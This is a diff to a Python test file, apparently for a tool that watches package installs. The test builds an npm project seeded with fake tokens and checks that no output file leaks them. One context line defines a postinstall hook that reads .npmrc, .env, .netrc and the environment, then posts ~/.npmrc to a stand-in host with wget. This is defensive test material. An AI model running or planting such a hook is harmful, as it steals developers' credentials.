@@ -10,6 +10,7 @@ import json
 import os
 import tarfile
 import threading
+import uuid
 import zlib
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -30,11 +31,14 @@ PROJECT = {
     "aws": "wJalrXUtnFEMIRealSecretOfTheProjectKEY1",
     "index": "RealIndexPassword-55ee44dd",
     "lock": "RealLockFilePassword-33bb22aa",
+    "url": "ghp_RealTokenOfTheRepository0011223344",
 }
 UPSTREAM = {"npm": "npm_UpstreamTokenOfTheHost0123456789abcd", "pip": "UpstreamPasswordOfTheHost-9911"}
 LOOK = "cat .npmrc ../../.npmrc ../../.env ~/.npmrc ~/.netrc; env; git -C ../.. remote -v; wget -qO- --tries=1 --post-file=$HOME/.npmrc http://collect.example/ || true"  # fmt: skip # noqa: E501
 
 
+# Not seen by an earlier run, whose answers the cache still has.
+NPM, PIP = (f"{kind}-{uuid.uuid4().hex[:12]}.example" for kind in ("npm", "pip"))
 DATA = Path("/var/lib/package-hunter")
 
 
@@ -78,7 +82,7 @@ class Registry:
         self.served.append(path)
         if path == "/npm/inner-lib":
             dist = {
-                "tarball": "http://npm.example/npm/inner-lib/-/inner-lib-1.0.0.tgz",
+                "tarball": f"http://{NPM}/npm/inner-lib/-/inner-lib-1.0.0.tgz",
                 "integrity": "sha512-" + base64.b64encode(hashlib.sha512(self.tarball).digest()).decode(),
             }
             version = {"name": "inner-lib", "version": "1.0.0", "dist": dist, "hasInstallScript": True}
@@ -114,6 +118,9 @@ def registry() -> Iterator[Registry]:
 
 def _project(folder: Path) -> Path:
     project = npm_project(folder, "app", {"postinstall": LOOK}, dependencies={"inner-lib": "1.0.0"})
+    manifest = json.loads((project / "package.json").read_text())
+    manifest["repository"] = f"git+https://{PROJECT['url']}@git.example/me/app.git"
+    (project / "package.json").write_text(json.dumps(manifest))
     texts = {
         ".npmrc": f"//registry.example/:_authToken={PROJECT['npm']}\n",
         ".env": f"STRIPE_KEY={PROJECT['env']}\n",
@@ -121,6 +128,7 @@ def _project(folder: Path) -> Path:
         ".git/config": f'[remote "origin"]\n\turl = https://me:{PROJECT["git"]}@git.example/app.git\n',
         ".aws/credentials": f"[default]\naws_secret_access_key = {PROJECT['aws']}\n",
         "requirements.txt": f"--extra-index-url https://me:{PROJECT['index']}@index.example/simple\ninnerpy\n",
+        ".gitmodules": f'[submodule "a"]\n\turl = https://me:{PROJECT["lock"]}@git.example/a.git\n',
     }
     for name, text in texts.items():
         (project / name).parent.mkdir(parents=True, exist_ok=True)
@@ -132,9 +140,9 @@ def _host(folder: Path, at: str) -> dict[str, str]:
     """The environment of a user whose package managers hold credentials for their registries."""
     (folder / ".config/pip").mkdir(parents=True)
     (folder / ".npmrc").write_text(
-        f"registry=http://npm.example/npm/\nproxy=http://{at}/\n//npm.example/npm/:_authToken={UPSTREAM['npm']}\n"
+        f"registry=http://{NPM}/npm/\nproxy=http://{at}/\n//{NPM}/npm/:_authToken={UPSTREAM['npm']}\n"
     )
-    pip = f"[global]\nindex-url = http://me:{UPSTREAM['pip']}@pip.example/simple/\nproxy = http://{at}\n"
+    pip = f"[global]\nindex-url = http://me:{UPSTREAM['pip']}@{PIP}/simple/\nproxy = http://{at}\n"
     (folder / ".config/pip/pip.conf").write_text(pip)
     names = ("npm_config_", "pip_")
     env = {key: text for key, text in os.environ.items() if not key.lower().startswith(names)}
@@ -169,8 +177,14 @@ def test_nothing_written_holds_a_secret(tmp_path: Path, registry: Registry) -> N
 
 
 def _files(folder: Path) -> set[Path]:
-    """Every file below, images left out."""
-    return {path for path in folder.rglob("*") if path.is_file() and "image" not in path.parts}
+    """Every file below, those of the image and its making left out."""
+    found: set[Path] = set()
+    for place in folder.iterdir():
+        if place.is_file():
+            found.add(place)
+        elif place.name != "image":
+            found |= {Path(top, name) for top, _, names in os.walk(place) for name in names}
+    return found
 
 
 def _plain(path: Path) -> bytes:
